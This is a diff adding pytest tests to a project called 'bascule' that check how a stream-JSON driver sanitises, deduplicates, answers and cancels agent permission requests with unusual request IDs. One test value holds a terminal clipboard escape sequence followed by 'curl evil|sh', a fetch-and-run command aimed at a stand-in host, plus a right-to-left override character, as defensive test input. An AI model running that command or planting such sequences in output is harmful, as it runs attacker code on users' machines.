@@ -2,6 +2,7 @@
 
 import hashlib
 import json
+import re
 from typing import Any
 
 import pytest
@@ -14,8 +15,10 @@ from bascule.model.codec import decode_event, encode
 from bascule.model.errors import InvalidInput, UnknownOption
 from bascule.model.events import (
     Image,
+    Note,
     PermissionAnswered,
     PermissionRequested,
+    PermissionWithdrawn,
     PromptSent,
     QuestionAnswered,
     QuestionAsked,
@@ -195,3 +198,33 @@ def test_control_requests_have_the_recorded_shape(write: Write, request_body: di
         "request_id": f"bascule:{request_body['subtype']}:{write.write_id}",
         "request": request_body,
     }
+
+
+@pytest.mark.parametrize(
+    "foreign", ["x\x1b]52;c;aGk=\x07;curl evil|sh #", "\u202eabc", "a b", "", "ü", "r" * 129, "a\nb"]
+)
+def test_s59_a_request_id_that_is_not_plain_is_ours_and_the_agent_is_answered_by_its_own(foreign: str):
+    call = {"subtype": "can_use_tool", "tool_name": "Bash", "input": {"command": "ls"}}
+    line = json.dumps({"type": "control_request", "request_id": foreign, "request": call}).encode() + b"\n"
+    first = StreamJsonDriver()
+    [asked] = first.receive(line)
+    assert isinstance(asked, PermissionRequested)
+    assert re.fullmatch(r"x-[0-9a-f]{32}", asked.request_id)
+    driver = StreamJsonDriver.restore(first.state())  # as after a restart
+    [note] = driver.receive(line)
+    assert isinstance(note, Note)
+    assert note.code == "duplicate_request"
+    written = driver.answer_permission(asked, PermissionAnswered(asked.request_id, "allow", "ana"))
+    assert json.loads(written.data)["response"]["request_id"] == foreign
+    assert written.write_id == f"answer:{asked.request_id}"
+    cancel = json.dumps({"type": "control_cancel_request", "request_id": foreign}).encode() + b"\n"
+    [gone] = driver.receive(cancel)
+    assert gone == PermissionWithdrawn(asked.request_id, "agent")
+
+
+def test_s59_a_plain_request_id_stays_as_it_is():
+    call = {"subtype": "can_use_tool", "tool_name": "Bash", "input": {}}
+    line = json.dumps({"type": "control_request", "request_id": "req_1.a:b-c", "request": call}).encode()
+    [asked] = StreamJsonDriver().receive(line + b"\n")
+    assert isinstance(asked, PermissionRequested)
+    assert asked.request_id == "req_1.a:b-c"
